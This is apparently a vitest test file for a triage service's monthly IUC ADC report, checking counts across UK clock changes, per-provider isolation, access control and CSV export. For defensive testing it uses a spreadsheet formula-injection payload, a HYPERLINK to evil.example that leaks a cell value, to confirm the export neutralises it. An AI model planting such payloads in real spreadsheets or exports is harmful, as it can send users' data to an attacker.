import { ValidationError } from '@holdfast/core';
import type { TriageProtocol } from '@holdfast/core/triage/pack';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createApp, registerRoutes } from '../../src/http/app.ts';
import {
  computeIucAdc,
  csvTextField,
  IUC_ADC_CSV_HEADER,
  IUC_ADC_ITEMS,
  iucAdcItems,
  londonMonthOf,
  parseReportingPeriod,
  reportRoutes,
  type CaseTally,
  type IucAdcReport,
} from '../../src/reports/iuc-adc.ts';
import { requireProtocolPack, SAMPLE_PACK_DIR } from '../../src/triage/packs.ts';
import { signedInAdmin } from '../support/admin.ts';
import { answersTo, caseAt } from '../support/cases.ts';
import { STORE_KINDS } from '../support/databases.ts';
import { Client, startTestApp, type TestApp } from '../support/http.ts';

// Not a test of password hashing: cheap hashes (test/support/cheap-hashing.ts).
vi.mock('../../src/auth/passwords.ts', async () =>
  (await import('../support/cheap-hashing.ts')).cheapPasswordHashing(),
);

/**
 * IUC ADC (C13): a known mix of calls driven end to end through HTTP, around the March 2026 clock
 * change and the month boundaries in UK time, then the month's items counted exactly, served as JSON
 * and as the national CSV (spreadsheet-safe), for the caller's provider only.
 */

type Items = Record<string, number>;
const ZERO: Items = Object.fromEntries(IUC_ADC_ITEMS.map((d) => [d.item, 0]));
const valuesOf = (report: Pick<IucAdcReport, 'items'>): Items =>
  Object.fromEntries(report.items.map((i) => [i.item, i.value]));

/**
 * March 2026 for northshire (clocks go forward at 01:00 UTC on Sunday 29 March; March in UK time is
 * 2026-03-01T00:00Z up to 2026-03-31T23:00Z):
 * - 2 abandoned calls (one at the first instant of March), 1 answered and never triaged;
 * - ambulance, 2 × ED/UTC (one at the instant of the clock change, one in the last second of March),
 *   2 × speak to primary care (one claimed and consulted), contact primary care, self-care;
 * - 1 speak-to case consulted, re-triaged by the clinician and ending ED/UTC (counted once, as ED).
 */
const MARCH: Items = {
  ...ZERO,
  A01: 11,
  A03: 9,
  B02: 2,
  C01: 8,
  D01: 2,
  E01: 8,
  E02: 1,
  E04: 3,
  E08: 1,
  E11: 2,
  E16: 1,
};
/**
 * April: the ambulance call at 2026-03-31T23:30Z (00:30 BST on 1 April), and a speak-to case
 * consulted and re-triaged but with no new disposition yet (no final disposition: no E item).
 */
const APRIL: Items = { ...ZERO, A01: 2, A03: 2, C01: 2, D01: 1, E01: 1, E02: 1 };
/** February: the self-care call at 2026-02-28T23:59Z. */
const FEBRUARY: Items = { ...ZERO, A01: 1, A03: 1, C01: 1, E01: 1, E16: 1 };

/** Free-text settings that a spreadsheet would take for formulas: the CSV must neutralise them. */
const NORTHSHIRE_SETTINGS = {
  orgCode: 'NWX',
  contractCode: 'NS-111',
  contractName: '+SUM(1,2)',
  regionCode: 'Y56',
  regionName: '@cmd',
};

const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

/** RFC 4180, enough for the test: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

describe('IUC ADC periods, items and CSV fields', () => {
  it('takes the UK calendar month, across both clock changes', () => {
    const march = parseReportingPeriod('2026-03');
    expect(march).toEqual({
      period: '2026-03',
      year: 2026,
      month: 3,
      startMs: Date.UTC(2026, 2, 1), // 00:00 GMT
      endMs: Date.UTC(2026, 2, 31, 23), // 00:00 BST on 1 April
    });
    expect(march.endMs - march.startMs).toBe(31 * 86_400_000 - 3_600_000);
    expect(parseReportingPeriod('2026-04').startMs).toBe(march.endMs);
    const october = parseReportingPeriod('2026-10');
    expect(october.startMs).toBe(Date.UTC(2026, 8, 30, 23)); // 00:00 BST on 1 October
    expect(october.endMs).toBe(Date.UTC(2026, 10, 1)); // 00:00 GMT on 1 November
    expect(october.endMs - october.startMs).toBe(31 * 86_400_000 + 3_600_000);
    expect(parseReportingPeriod('2026-12').endMs).toBe(Date.UTC(2027, 0, 1));
    expect(parseReportingPeriod('2027-01').startMs).toBe(Date.UTC(2027, 0, 1));
    expect(londonMonthOf(Date.parse('2026-02-28T23:59:00Z'))).toBe('2026-02');
    expect(londonMonthOf(Date.parse('2026-03-31T22:59:59Z'))).toBe('2026-03');
    expect(londonMonthOf(Date.parse('2026-03-31T23:00:00Z'))).toBe('2026-04');
    expect(londonMonthOf(Date.parse('2026-10-31T23:30:00Z'))).toBe('2026-10');
    expect(londonMonthOf(Date.parse('2026-09-30T23:30:00Z'))).toBe('2026-10');
  });

  it('refuses anything but YYYY-MM, naming query.period', () => {
    for (const bad of ['2026-13', '2026-00', '2026-3', '26-03', '2026-03-01', '2026/03', ' 2026-03', '']) {
      let error: unknown;
      try {
        parseReportingPeriod(bad);
      } catch (e) {
        error = e;
      }
      expect(error, bad).toBeInstanceOf(ValidationError);
      expect((error as ValidationError).issues, bad).toEqual([
        { path: 'query.period', message: expect.stringMatching(/YYYY-MM/) },
      ]);
    }
  });

  it('counts a re-triaged case once, by its latest disposition, and none while it is back in triage', () => {
    const one = (over: Partial<CaseTally>): CaseTally => ({
      dispositionKind: null,
      dxCode: null,
      outcome: null,
      linked: 0,
      status: 'answered',
      calls: 1,
      answered: 1,
      abandoned: 0,
      triaged: 1,
      assessed: 0,
      ...over,
    });
    const items = valuesOf({
      items: iucAdcItems([
        one({ dispositionKind: 'ed_utc', dxCode: 'SAMPLE-ED-1H', status: 'referral_pending', assessed: 1 }), // re-triaged to ED
        one({ dispositionKind: 'speak_to_primary_care', status: 'in_triage', assessed: 1 }), // re-triaging
        one({ dispositionKind: 'contact_primary_care', status: 'queued' }),
        one({ dispositionKind: 'dental', status: 'referral_pending' }),
        one({ status: 'abandoned', answered: 0, abandoned: 1, triaged: 0 }),
      ]),
    });
    expect(items).toEqual({
      ...ZERO,
      A01: 5,
      A03: 4,
      B02: 1,
      C01: 4,
      D01: 2,
      E01: 3,
      E04: 1,
      E08: 1,
      E12: 1,
    });
  });

  it('makes every text field spreadsheet-safe and RFC 4180 quoted', () => {
    expect(csvTextField('northshire provider')).toBe('northshire provider');
    expect(csvTextField('=1+1')).toBe("'=1+1");
    expect(csvTextField('+44')).toBe("'+44");
    expect(csvTextField('-2')).toBe("'-2");
    expect(csvTextField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvTextField('\t=1')).toBe('"\'\t=1"');
    expect(csvTextField('\r=1')).toBe('"\'\r=1"');
    expect(csvTextField('a,b')).toBe('"a,b"');
    expect(csvTextField('say "hi"')).toBe('"say ""hi"""');
    expect(csvTextField('a;=1')).toBe('"a;=1"');
    expect(csvTextField('two\nlines')).toBe('"two\nlines"');
    expect(csvTextField('Dx05')).toBe('Dx05');
  });
});

describe.each(STORE_KINDS)('IUC ADC report on %s', (kind) => {
  let t: TestApp;
  let protocols: Map<string, TriageProtocol>;
  let site: string;
  let southSite: string;
  let adviser: Client;
  let clinician: Client;
  let reports: FastifyInstance;
  /** The shift manager (reports.read) and the clinician (no reports.read), on the report app. */
  let manager: Client;
  let southManager: Client;
  let clinicianOnReports: Client;

  const signedIn = async (username: string): Promise<Client> => {
    const c = new Client(t.app, t.clock);
    const r = await c.signIn(username);
    if (r.statusCode !== 200) throw new Error(`${username}: ${r.body}`);
    return c;
  };
  /** The same session on the app serving the report route (sessions live in the store). */
  const onReports = (c: Client): Client => {
    const r = new Client(reports, t.clock);
    r.cookie = c.cookie;
    r.csrf = c.csrf;
    return r;
  };

  const call = async (receivedAt: string, answered: boolean, by = adviser, siteId = site) => {
    const r = await by.request('POST', '/api/v1/calls', {
      siteId,
      receivedAt,
      answered,
      caller: {
        name: 'Rae Caller',
        relationship: 'self',
        callbackNumber: '0113 496 0125',
        callbackNumberReadBack: true,
      },
      location: 'At home',
      presentingComplaint: 'Unwell',
    });
    expect(r.statusCode, r.body).toBe(201);
    return (r.json() as { caseId: string }).caseId;
  };

  const ok = async (c: Client, method: string, url: string, body?: unknown) => {
    const r = await c.request(method, url, body);
    expect(r.statusCode, `${method} ${url}: ${r.body}`).toBeLessThan(300);
    return r;
  };

  /** Claims the case, starts the consultation (D01), and with `retriage` sends it back to triage. */
  const consult = async (caseId: string, retriage: boolean) => {
    await ok(clinician, 'POST', `/api/v1/cases/${caseId}/claim`);
    await ok(clinician, 'POST', `/api/v1/cases/${caseId}/consultation`);
    if (retriage) await ok(clinician, 'POST', `/api/v1/cases/${caseId}/outcome`, { outcome: 'retriage' });
  };

  /** A pathway reaching both speak-to-primary-care and ED/UTC, with the answers to each. */
  const retriagePath = () => {
    for (const [pathwayId, protocol] of protocols) {
      const speak = answersTo(protocol, (d) => d.kind === 'speak_to_primary_care');
      const ed = answersTo(protocol, (d) => d.kind === 'ed_utc');
      if (speak && ed) return { pathwayId, speak, ed };
    }
    throw new Error('no shipped pathway reaches both speak_to_primary_care and ed_utc');
  };

  beforeAll(async () => {
    t = await startTestApp(kind, { providers: ['northshire', 'southshire'] });
    protocols = (await requireProtocolPack(SAMPLE_PACK_DIR)).protocols;
    site = t.providers[0]!.sites[0]!;
    southSite = t.providers[1]!.sites[0]!;
    adviser = await signedIn('health_adviser@northshire');
    clinician = await signedIn('clinician@northshire');
    const managerMain = await signedIn('shift_manager@northshire');
    const southAdviser = await signedIn('health_adviser@southshire');
    const southManagerMain = await signedIn('shift_manager@southshire');

    // The report route is not wired into the application yet: serve it from an app of its own over
    // the same node and session store, built exactly as the application builds its routes.
    const built = await createApp(t.deps);
    reports = built.app;
    registerRoutes(
      reports,
      t.deps,
      built.registry,
      reportRoutes(t.node.store, { tenantFilter: true, clock: t.clock }),
    );
    // The provider's national identity is a setting its admin makes (stored as an event).
    const admin = await signedInAdmin(t.app, t.clock, 'provider_admin@northshire');
    const set = await admin.request('PUT', '/api/v1/admin/reporting-settings', NORTHSHIRE_SETTINGS);
    expect(set.statusCode, set.body).toBe(200);
    await reports.ready();
    manager = onReports(managerMain);
    southManager = onReports(southManagerMain);
    clinicianOnReports = onReports(clinician);

    // ---- northshire, March 2026 ----
    await call('2026-03-01T00:00:00Z', false); // first instant of March (GMT): abandoned
    await call('2026-03-29T01:30:00Z', false); // 02:30 BST, just after the change: abandoned
    await call('2026-03-15T12:00:00Z', true); // answered, never triaged
    await caseAt(adviser, protocols, site, 'ambulance', { receivedAt: '2026-03-29T00:30:00Z' }); // 00:30 GMT
    await caseAt(adviser, protocols, site, 'ed_utc', { receivedAt: '2026-03-29T01:00:00Z' }); // the change
    await caseAt(adviser, protocols, site, 'ed_utc', { receivedAt: '2026-03-31T22:59:59Z' }); // 23:59:59 BST
    const consulted = await caseAt(adviser, protocols, site, 'speak_to_primary_care', {
      receivedAt: '2026-03-29T03:30:00Z',
    });
    await consult(consulted.caseId, false);
    await caseAt(adviser, protocols, site, 'speak_to_primary_care', { receivedAt: '2026-03-10T10:00:00Z' });
    await caseAt(adviser, protocols, site, 'contact_primary_care', { receivedAt: '2026-03-20T08:00:00Z' });
    await caseAt(adviser, protocols, site, 'self_care', { receivedAt: '2026-03-05T18:00:00Z' });

    // Re-triaged: speak to primary care → consulted → re-triage → ED/UTC. Counts once, as E04.
    const path = retriagePath();
    const retriaged = await caseAt(adviser, protocols, site, 'speak_to_primary_care', {
      receivedAt: '2026-03-12T09:00:00Z',
      pathwayId: path.pathwayId,
    });
    await consult(retriaged.caseId, true);
    const diverge = path.ed.findIndex((a, i) => JSON.stringify(a) !== JSON.stringify(path.speak[i]));
    expect(diverge).toBeGreaterThanOrEqual(0);
    let walked = (
      await ok(clinician, 'POST', `/api/v1/cases/${retriaged.caseId}/triage/changes`, path.ed[diverge])
    ).json() as { status: string; disposition?: { dxCode: string } };
    for (const a of path.ed.slice(diverge + 1))
      walked = (
        await ok(clinician, 'POST', `/api/v1/cases/${retriaged.caseId}/triage/answers`, a)
      ).json() as typeof walked;
    expect(walked.status).toBe('disposition');
    await ok(clinician, 'POST', `/api/v1/cases/${retriaged.caseId}/disposition/confirm`, {
      dxCode: walked.disposition!.dxCode,
    });
    const after = (await ok(adviser, 'GET', `/api/v1/cases/${retriaged.caseId}`)).json() as {
      status: string;
      disposition: { kind: string };
    };
    expect(after).toMatchObject({ status: 'referral_pending', disposition: { kind: 'ed_utc' } });

    // ---- northshire, around March ----
    await caseAt(adviser, protocols, site, 'self_care', { receivedAt: '2026-02-28T23:59:00Z' }); // February
    await caseAt(adviser, protocols, site, 'ambulance', { receivedAt: '2026-03-31T23:30:00Z' }); // 00:30 BST 1 April
    const pending = await caseAt(adviser, protocols, site, 'speak_to_primary_care', {
      receivedAt: '2026-04-15T10:00:00Z',
    });
    await consult(pending.caseId, true); // back in triage, no new disposition yet

    // ---- southshire, March 2026: another provider's calls count for it alone ----
    await caseAt(southAdviser, protocols, southSite, 'self_care', { receivedAt: '2026-03-10T10:00:00Z' });
    await call('2026-03-11T10:00:00Z', false, southAdviser, southSite);
  });
  afterAll(async () => {
    await reports?.close();
    await t?.close();
  });

  it('counts the month exactly from the cases read model', async () => {
    const march = await computeIucAdc(t.node.store, 'northshire', parseReportingPeriod('2026-03'), {
      tenantFilter: true,
      clock: t.clock,
    });
    expect(valuesOf(march)).toEqual(MARCH);
    expect(march.items.map((i) => i.item)).toEqual(IUC_ADC_ITEMS.map((d) => d.item));
    expect(march).toMatchObject({
      period: '2026-03',
      from: '2026-03-01T00:00:00.000Z',
      to: '2026-03-31T23:00:00.000Z',
      generatedAt: new Date(t.clock.nowMs()).toISOString(),
      org: { code: 'NWX', name: 'northshire provider' },
      contract: { code: 'NS-111', name: '+SUM(1,2)' },
      region: { code: 'Y56', name: '@cmd' },
      missingSettings: [],
      notice: expect.stringMatching(/E07 and E10.*0 until/),
    });
    const count = async (tenant: string, period: string) =>
      valuesOf(await computeIucAdc(t.node.store, tenant, parseReportingPeriod(period)));
    expect(await count('northshire', '2026-04')).toEqual(APRIL);
    expect(await count('northshire', '2026-02')).toEqual(FEBRUARY);
    expect(await count('northshire', '2026-05')).toEqual(ZERO);
    expect(await count('southshire', '2026-03')).toEqual({
      ...ZERO,
      A01: 2,
      A03: 1,
      B02: 1,
      C01: 1,
      E01: 1,
      E16: 1,
    });
    if (kind === 'postgres') {
      // Without the services' tenant condition, row-level security alone keeps the counts apart.
      const rlsOnly = await computeIucAdc(t.node.store, 'northshire', parseReportingPeriod('2026-03'), {
        tenantFilter: false,
      });
      expect(valuesOf(rlsOnly)).toEqual(MARCH);
      expect(rlsOnly.org).toEqual({ code: 'NWX', name: 'northshire provider' });
    }
  });

  it('serves the figures as JSON to reports.read only, for the caller’s provider', async () => {
    const r = await manager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03');
    expect(r.statusCode, r.body).toBe(200);
    const body = r.json() as IucAdcReport;
    expect(valuesOf(body)).toEqual(MARCH);
    expect(body).toMatchObject({
      period: '2026-03',
      generatedAt: new Date(t.clock.nowMs()).toISOString(),
      org: { code: 'NWX', name: 'northshire provider' },
      contract: { code: 'NS-111', name: '+SUM(1,2)' },
      items: expect.arrayContaining([{ item: 'E07', label: 'Contact primary care (bookable)', value: 0 }]),
      notice: expect.stringMatching(/booking/),
    });
    const april = await manager.request('GET', '/api/v1/reports/iuc-adc?period=2026-04&format=json');
    expect(valuesOf(april.json() as IucAdcReport)).toEqual(APRIL);
    const south = await southManager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03');
    // Southshire's admin set nothing: the report says what is missing instead of inventing codes.
    expect(south.json()).toMatchObject({
      org: { code: null, name: 'southshire provider' },
      contract: { code: null, name: null },
      region: { code: null, name: null },
      missingSettings: ['orgCode', 'contractCode', 'contractName', 'regionCode', 'regionName'],
      notices: expect.arrayContaining([expect.stringMatching(/ODS code.*refused until a provider admin/)]),
    });
    expect(valuesOf(south.json() as IucAdcReport)).toMatchObject({ A01: 2, E16: 1, E04: 0 });

    const denied = await clinicianOnReports.request('GET', '/api/v1/reports/iuc-adc?period=2026-03');
    expect(denied.statusCode).toBe(403);
    const anonymous = await reports.inject({ method: 'GET', url: '/api/v1/reports/iuc-adc?period=2026-03' });
    expect(anonymous.statusCode).toBe(401);
  });

  it('serves the national CSV layout, one row per item, every text field spreadsheet-safe', async () => {
    const r = await manager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03&format=csv');
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv/);
    expect(r.headers['content-disposition']).toBe('attachment; filename="iuc-adc-northshire-2026-03.csv"');
    const rows = parseCsv(r.body);
    expect(rows[0]).toEqual([...IUC_ADC_CSV_HEADER]);
    expect(rows.slice(1)).toEqual(
      IUC_ADC_ITEMS.map((d) => [
        '2026-03',
        'NWX',
        'northshire provider',
        'NS-111',
        "'+SUM(1,2)",
        'Y56',
        "'@cmd",
        d.item,
        String(MARCH[d.item]),
      ]),
    );

    // No national CSV while the provider's reporting settings are missing: 409 naming them.
    const unset = await southManager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03&format=csv');
    expect(unset.statusCode, unset.body).toBe(409);
    expect(unset.json()).toMatchObject({
      code: 'conflict',
      detail: expect.stringMatching(/ODS code.*contract area code.*region name not set/),
    });
    const southAdmin = await signedInAdmin(t.app, t.clock, 'provider_admin@southshire');
    const set = await southAdmin.request('PUT', '/api/v1/admin/reporting-settings', {
      orgCode: 'SSX',
      contractCode: 'SS-1',
      contractName: 'Southshire IUC',
      regionCode: 'Y58',
      regionName: 'South West',
    });
    expect(set.statusCode, set.body).toBe(200);
    // Stored as an event; read back by the admin; bad codes named; not for a shift manager.
    const read = await southAdmin.request('GET', '/api/v1/admin/reporting-settings');
    expect(read.json()).toMatchObject({
      settings: { orgCode: 'SSX', contractCode: 'SS-1', regionCode: 'Y58' },
      missing: [],
      setBy: expect.stringMatching(/^user:/),
    });
    const stored = (await t.node.ledger.readTenant('southshire', null, 100_000)).filter(
      (e) => e.type === 'provider.reporting_settings_set',
    );
    expect(stored).toHaveLength(1);
    const bad = await southAdmin.request('PUT', '/api/v1/admin/reporting-settings', { orgCode: 'not ods' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({
      errors: [{ path: 'body.orgCode', message: expect.stringMatching(/ODS/) }],
    });
    const managerOnApp = new Client(t.app, t.clock);
    managerOnApp.cookie = southManager.cookie;
    managerOnApp.csrf = southManager.csrf;
    const byManager = await managerOnApp.request('PUT', '/api/v1/admin/reporting-settings', {
      orgCode: 'ABC',
    });
    expect(byManager.statusCode).toBe(403);

    // A provider whose name is a formula: quoted, quotes doubled, and neutralised with an apostrophe.
    await t.accounts.createTenant('southshire', HOSTILE_NAME, 'system:test');
    const south = await southManager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03&format=csv');
    expect(south.statusCode, south.body).toBe(200);
    expect(south.body).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`);
    const southRows = parseCsv(south.body);
    expect(southRows).toHaveLength(1 + IUC_ADC_ITEMS.length);
    for (const row of southRows.slice(1)) {
      expect(row).toHaveLength(IUC_ADC_CSV_HEADER.length);
      expect(row.slice(0, 7)).toEqual([
        '2026-03',
        'SSX',
        `'${HOSTILE_NAME}`,
        'SS-1',
        'Southshire IUC',
        'Y58',
        'South West',
      ]);
    }
    expect(southRows.find((row) => row[7] === 'A01')?.[8]).toBe('2');
  });

  it('refuses a period that is not a month, naming query.period', async () => {
    for (const bad of ['2026-13', '2026-00', '2026-3', '26-03', '2026-03-01', 'march']) {
      const r = await manager.request('GET', `/api/v1/reports/iuc-adc?period=${encodeURIComponent(bad)}`);
      expect(r.statusCode, bad).toBe(400);
      expect(r.json(), bad).toMatchObject({
        code: 'validation_failed',
        errors: [{ path: 'query.period', message: expect.stringMatching(/YYYY-MM/) }],
      });
    }
    const missing = await manager.request('GET', '/api/v1/reports/iuc-adc');
    expect(missing.statusCode).toBe(400);
    expect(missing.json()).toMatchObject({ errors: [{ path: 'query.period' }] });
    const format = await manager.request('GET', '/api/v1/reports/iuc-adc?period=2026-03&format=xlsx');
    expect(format.statusCode).toBe(400);
    expect(format.json()).toMatchObject({ errors: [{ path: 'query.format' }] });
  });
});
